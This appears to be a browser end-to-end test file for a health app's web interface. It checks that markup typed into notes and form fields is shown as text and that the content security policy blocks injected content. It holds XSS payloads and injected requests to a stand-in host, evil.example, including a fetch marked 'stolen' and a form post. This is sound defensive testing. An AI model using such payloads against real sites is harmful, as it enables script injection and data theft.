// Somebody writes markup where words were asked for, and somebody injects into a page: nothing of it runs. The content
// policy is on, as it always is; the last journey shows that it would stop what escaping had let through.
import assert from 'node:assert/strict';
import { mark } from '../lib/demo.mjs';
import { base } from '../lib/world.mjs';
import { addFood } from './10_client_logs.mjs';

const live = [
  '<script>window.hurt = 1</script>',
  '"><img src=x onerror="window.hurt = 1">',
  '</textarea><svg onload="window.hurt = 1">',
  '<iframe srcdoc="<script>parent.hurt = 1</script>">',
  "javascript:window.hurt=1//'\"",
];

async function writesMarkup(world) {
  const client = await world.member('maya', 'phone');
  const { page } = client;
  for (const markup of live) {
    const note = `${mark()} ${markup}`;
    await client.goto('/me/meal');
    await addFood(client, 'kal', /kale/i);
    await client.press(/^Add \d+/);
    await page.getByRole('textbox', { name: 'Note' }).fill(note);
    await client.press('Save meal');
    await client.sees('Meal logged at');
    assert.ok((await page.locator('body').innerText()).includes(markup), 'it is shown as it was written');
    assert.equal(await page.evaluate(() => window.hurt), undefined, markup);
    assert.equal(await page.locator('main script, main iframe, main [onerror], main [onload]').count(), 0);
  }
}

async function readsMarkup(world) {
  const practitioner = await world.member('ruth', 'desk');
  const { page } = practitioner;
  await practitioner.goto('/practice');
  await page.getByRole('link', { name: 'Maya Osei' }).first().click();
  await page.waitForLoadState('load');
  assert.equal(await page.evaluate(() => window.hurt), undefined);
  assert.equal(await page.locator('main script, main iframe, main [onerror], main [onload]').count(), 0);
}

// Every field that takes words, found in the forms themselves, gets markup and is sent: what is refused is shown again as
// it was typed, what is taken is shown as words. Nothing of it runs, here or on the next page.
const written = {
  nobody: ['/sign-in', '/sign-up', '/forgotten'],
  maya: ['/me/meal', '/me/symptom', '/me/access', '/account/security', '/account/email', '/account/password', '/account/profile'],
  ruth: ['/practice', '/practice/clients/invite', '/practice/access', '/practice/availability', '/practice/services/new'],
  ines: ['/clinic/team', '/clinic/access', '/clinic/recovery', '/clinic/security', '/clinic/settings'],
};

async function everyField(world) {
  let filled = 0;
  for (const [who, pages] of Object.entries(written)) {
    const person = who === 'nobody' ? await world.person('desk') : await world.member(who, 'desk');
    person.expect(/4\d\d/);
    const { page } = person;
    for (const path of pages) {
      await person.goto(path);
      const forms = await page.locator('form').count();
      for (let n = 0; n < forms; n += 1) {
        for (const markup of live.slice(0, 3)) {
          await person.goto(path);
          const form = page.locator('form').nth(n);
          const names = await form.evaluate((element, text) => {
            const free = 'textarea, input:not([type]), input[type=text], input[type=search], input[type=email], input[type=password]';
            const fields = [...element.querySelectorAll(free)];
            for (const field of fields) field.value = text;
            return fields.map(({ name }) => name);
          }, markup);
          if (!names.length) break;
          filled += names.length;
          await Promise.all([page.waitForEvent('load'), form.evaluate((element) => HTMLFormElement.prototype.submit.call(element))]);
          const at = `${names} of ${path}`;
          assert.equal(new URL(page.url()).origin, new URL(base).origin, at);
          assert.equal(await page.evaluate(() => window.hurt), undefined, at);
          assert.equal(await page.locator('main script, main iframe, [onerror], [onload]').count(), 0, at);
        }
      }
    }
  }
  assert.ok(filled > 60, `only ${filled} fields were filled`);
}

// As if escaping had failed somewhere: the browser itself refuses, and says which rule did it.
async function policyStops(world) {
  const client = await world.member('maya', 'phone');
  const { page } = client;
  client.expect(/console: /, /failed: /, /third party: /);
  for (const path of ['/me', '/me/meal', '/sign-in?next=/me']) {
    await client.goto(path);
    const stopped = await page.evaluate(async () => {
      const rules = new Set();
      document.addEventListener('securitypolicyviolation', (event) => rules.add(event.effectiveDirective));
      const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
      // Written into the page as an attacker's words would be: by the parser, not by a script that is trusted.
      const hole = document.createElement('div');
      hole.innerHTML = '<img src="https://evil.example/x.png"><div style="position:fixed"></div><a href="javascript:window.hurt=1" id="bait">x</a><img src="data:," onerror="window.hurt=1">';
      document.body.append(hole);
      add('style', { textContent: 'body { display: none }' });
      add('iframe', { src: 'https://evil.example/' });
      add('object', { data: 'https://evil.example/' });
      add('base', { href: 'https://evil.example/' });
      document.querySelector('#bait').click();
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post', target: '_self' });
      document.body.append(form);
      form.submit();
      await fetch('https://evil.example/?stolen').catch(() => {});
      // Later, because the tool that steers the browser may evaluate text where a page may not.
      setTimeout(() => {
        try { new Function('window.hurt = 1')(); } catch { rules.add('eval'); }
      }, 50);
      await new Promise((done) => setTimeout(done, 500));
      return { rules: [...rules], hurt: window.hurt, hidden: getComputedStyle(document.body).display === 'none' };
    });
    assert.equal(stopped.hurt, undefined, path);
    assert.equal(stopped.hidden, false, `${path}: an inline style applied`);
    for (const rule of ['img-src', 'style-src-elem', 'style-src-attr', 'frame-src', 'connect-src', 'form-action', 'eval']) {
      assert.ok(stopped.rules.includes(rule), `${path}: ${rule} stopped nothing (${stopped.rules})`);
    }
    assert.equal(new URL(page.url()).origin, new URL(base).origin, 'the page went elsewhere');
  }
}

export default [
  ['markup in a note is text, for its writer', writesMarkup],
  ['and for the practitioner who reads it', readsMarkup],
  ['every field that takes words takes markup as words', everyField],
  ['what is injected all the same is stopped by the policy', policyStops],
];
